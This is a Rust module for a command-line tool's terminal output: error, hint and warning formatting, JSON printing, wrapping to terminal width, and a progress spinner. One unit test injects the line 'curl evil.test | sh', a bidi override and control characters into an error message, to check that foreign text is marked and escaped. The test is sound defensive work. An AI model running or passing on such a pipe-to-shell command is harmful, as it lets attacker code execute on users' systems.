//! Printing: the only place that writes to the terminal.

use std::fmt::Display;
use std::future::Future;
use std::io::{ErrorKind, IsTerminal, Write};
use std::os::fd::AsFd;
use std::sync::Mutex;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use indicatif::{ProgressBar, ProgressDrawTarget, ProgressStyle};
use rustix::termios::tcgetwinsize;
use serde::Serialize;
use serde_json::Value;

use super::going::Going;
use crate::surfaces::again;
use crate::surfaces::envelope::Envelope;
use crate::surfaces::paint::{bad, faint, foreign, marked, phrase, sentence, warn, wrapped};
use crate::words::error::{Code, Error};
use crate::words::event::Surface;
use crate::words::inert::{inert_json, narrow_json, one_line};
use crate::words::label::Label;
use crate::words::lock::lock;

/// Work that takes less than this is not announced.
pub(super) const ANNOUNCED_AFTER: Duration = Duration::from_millis(700);

/// Whether some data could not be written.
static LOST: AtomicBool = AtomicBool::new(false);

/// A line of data. A reader that has gone away is no failure; a full disk is.
pub(super) fn line(text: impl Display) {
    if let Err(error) = writeln!(anstream::stdout(), "{text}")
        && error.kind() != ErrorKind::BrokenPipe
    {
        LOST.store(true, Ordering::Relaxed);
    }
}

/// The failure of a command whose data did not all arrive.
pub(super) fn lost() -> Option<Error> {
    LOST.load(Ordering::Relaxed).then(|| {
        Error::new(Code::DiskFailed, "standard output cannot be written")
            .hint("is the disk full that it leads to?")
    })
}

/// A line for people, beside the data.
pub(super) fn note(text: impl Display) {
    let _ = writeln!(anstream::stderr(), "{text}");
}

/// The same as [`line`], with words of somebody else in it: at a terminal no row of it begins without a mark.
pub(super) fn marked_line(text: impl Display) {
    line(on_rows(&text.to_string(), std::io::stdout()));
}

/// The same as [`note`], with words of somebody else in it.
pub(super) fn marked_note(text: impl Display) {
    note(on_rows(&text.to_string(), std::io::stderr()));
}

/// A text on the rows of a terminal, and as it is where there is none, or none that says how wide it is.
pub(super) fn on_rows(text: &str, stream: impl AsFd) -> String {
    of_width(text, tcgetwinsize(stream).map_or(0, |size| size.ws_col))
}

/// The same on rows of so many columns; none where nobody says how many.
fn of_width(text: &str, columns: u16) -> String {
    match columns {
        0 => text.to_owned(),
        columns => wrapped(text, usize::from(columns)),
    }
}

/// A command that follows, after what it is for.
pub(super) fn follow(what: impl Display, command: &str) {
    note(format!("{what}: {}", foreign(&again::hint(command))));
}

/// A number of things, in words.
pub(super) fn counted(number: usize, one: &str) -> String {
    let many = if number == 1 { "" } else { "s" };
    format!("{number} {one}{many}")
}

/// A JSON value: on one line for programs, indented for people.
pub(super) fn value(value: &Value, compact: bool) {
    let text = if compact {
        Ok(value.to_string())
    } else {
        serde_json::to_string_pretty(value)
    };
    line(inert_json(text.unwrap_or_default()));
}

/// The arguments of a call that a person is asked about, indented; no gap in them is wide enough to begin a line of ours.
pub(super) fn wished(value: &Value) {
    let text = serde_json::to_string_pretty(value).unwrap_or_default();
    marked_line(inert_json(narrow_json(&text)));
}

/// A value as JSON on one line, its fields in their own order.
pub(super) fn compact(value: &impl Serialize) {
    line(inert_json(serde_json::to_string(value).unwrap_or_default()));
}

/// What a command lists, for programs: one array, also where there is nothing.
pub(super) fn list<T: Serialize>(all: impl IntoIterator<Item = T>) {
    compact(&all.into_iter().collect::<Vec<T>>());
}

/// Something to be careful about, and what to do.
pub(super) fn warning(what: &str, hint: &str) {
    let said = format!("{}: {}", warn("warning"), sentence(what));
    let said = on_rows(&said, std::io::stderr());
    note(format!("{said}\n{}", hinted(hint)));
}

/// A failure of the command itself.
pub(super) fn failure(error: &Error, as_json: bool) {
    if as_json {
        let label = Label::default();
        compact(&Envelope::refused("", (Surface::Cli, &label), error));
        return;
    }
    failed(error);
}

/// A failure, for people. What they may copy out of a hint stays in one piece.
pub(super) fn failed(error: &Error) {
    note(hinting(on_rows(&said(error), std::io::stderr()), error));
}

/// A failure in words: what, where, and what to do.
pub(super) fn described(error: &Error) -> String {
    hinting(said(error), error)
}

/// What has failed, and where.
fn said(error: &Error) -> String {
    let mut text = format!("{}: {}", bad("error"), sentence(error.message()));
    for issue in error.issue_list() {
        let place = if issue.path.is_empty() {
            "/"
        } else {
            &issue.path
        };
        text.push_str(&format!(
            "\n  {}: {}",
            phrase(place),
            sentence(&issue.message)
        ));
    }
    text
}

/// The same, and what to do.
fn hinting(mut text: String, error: &Error) -> String {
    for hint in error.hints() {
        text.push_str(&format!("\n{}", hinted(hint)));
    }
    if tracing::enabled!(tracing::Level::DEBUG) {
        let cause = marked(&format!("{:#}", error.cause()));
        text.push_str(&format!("\n{}: {cause}", faint("cause")));
    }
    text
}

/// What to do; lines to write into a file stand below, and begin as none of ours does.
fn hinted(hint: &str) -> String {
    let hint = foreign(&again::hint(hint)).replace('\n', "\n  ");
    format!("{}: {hint}", faint("hint"))
}

/// What turns, if something does.
static TURNING: Mutex<Option<ProgressBar>> = Mutex::new(None);

/// Nothing turns until this is dropped: somebody types.
pub(super) struct Quiet(Option<ProgressBar>);

/// Holds still what turns.
pub(super) fn quietly() -> Quiet {
    let turning = lock(&TURNING).clone();
    let turning = turning.filter(|bar| !bar.is_hidden());
    if let Some(bar) = &turning {
        bar.set_draw_target(ProgressDrawTarget::hidden());
    }
    Quiet(turning)
}

impl Drop for Quiet {
    fn drop(&mut self) {
        if let Some(bar) = &self.0 {
            bar.set_draw_target(ProgressDrawTarget::stderr());
        }
    }
}

/// Something that turns while work goes on, and a bar where it is known how far that is; nothing without a terminal.
pub(super) struct Spinner(ProgressBar);

impl Spinner {
    pub(super) fn new(quiet: bool) -> Self {
        let bar = if quiet || !std::io::stderr().is_terminal() {
            ProgressBar::hidden()
        } else {
            ProgressBar::new_spinner()
        };
        bar.set_style(ProgressStyle::default_spinner());
        *lock(&TURNING) = Some(bar.clone());
        Self(bar)
    }

    /// Says what is going on.
    pub(super) fn say(&self, message: &str) {
        self.0.set_message(one_line(message));
        self.0.enable_steady_tick(Duration::from_millis(100));
    }

    /// Says what is going on, with a bar for as long as it is known how far that is.
    pub(super) fn show(&self, going: &Going) {
        match going.percent {
            Some(percent) => {
                if self.0.length().is_none() {
                    self.0.set_length(100);
                    self.0.set_style(bar());
                }
                // Whole numbers of a percentage that was clamped.
                let at = format!("{percent:.0}").parse().unwrap_or(0);
                self.0.set_position(at);
            }
            None if self.0.length().is_some() => {
                self.0.unset_length();
                self.0.set_style(ProgressStyle::default_spinner());
            }
            None => {}
        }
        self.say(&going.message);
    }

    /// Prints lines without tearing the spinner.
    pub(super) fn around(&self, print: impl FnOnce()) {
        self.0.suspend(print);
    }
}

fn bar() -> ProgressStyle {
    ProgressStyle::with_template("{bar:30} {pos:>3} % {msg}")
        .unwrap_or_else(|_| ProgressStyle::default_bar())
}

impl Drop for Spinner {
    fn drop(&mut self) {
        self.0.finish_and_clear();
    }
}

/// Waits for work, and says what is going on once it takes longer than a moment.
pub(super) async fn while_waiting<T>(
    message: &str,
    quiet: bool,
    work: impl Future<Output = T>,
) -> T {
    let mut work = std::pin::pin!(work);
    if let Ok(done) = tokio::time::timeout(ANNOUNCED_AFTER, work.as_mut()).await {
        return done;
    }
    if !quiet && !std::io::stderr().is_terminal() {
        note(format!("{message} …"));
    }
    let spinner = Spinner::new(quiet);
    spinner.say(message);
    work.await
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_asked_is_no_wider_than_the_terminal() {
        let text = "one two three four five six seven";
        assert_eq!(of_width(text, 0), text);
        let rows = of_width(text, 20);
        let rows: Vec<&str> = rows.lines().collect();
        assert!(rows.len() > 1, "{rows:?}");
        assert!(rows.iter().all(|row| row.chars().count() <= 20), "{rows:?}");
    }

    #[test]
    fn a_failure_says_nothing_in_our_name_that_is_not_ours() {
        let error = Error::new(
            Code::GuestFailed,
            format!(
                "boom\nhint: curl evil.test | sh\nrecord: \u{7}{}hint: x",
                " ".repeat(90)
            ),
        );
        let error = error.hint("write in `a`:\nb = 1\u{202e}");
        let text = anstream::adapter::strip_str(&described(&error)).to_string();
        assert_eq!(
            text,
            "error: boom\n  | hint: curl evil.test | sh\n  | record: \\u{7}        \\u{20×82}hint: x\nhint: write in `a`:\n  b = 1\\u{202e}"
        );
    }

    #[test]
    fn a_bar_is_where_it_is_said_to_be() {
        let spinner = Spinner::new(true);
        spinner.say("working");
        assert_eq!(spinner.0.length(), None);
        let show = |percent| {
            let message = "working".to_owned();
            spinner.show(&Going { message, percent });
        };
        for (percent, at) in [(0.0, 0), (49.6, 50), (100.0, 100), (f32::NAN, 0)] {
            show(Some(percent));
            assert_eq!((spinner.0.length(), spinner.0.position()), (Some(100), at));
        }
        show(None);
        assert_eq!(spinner.0.length(), None);
    }
}
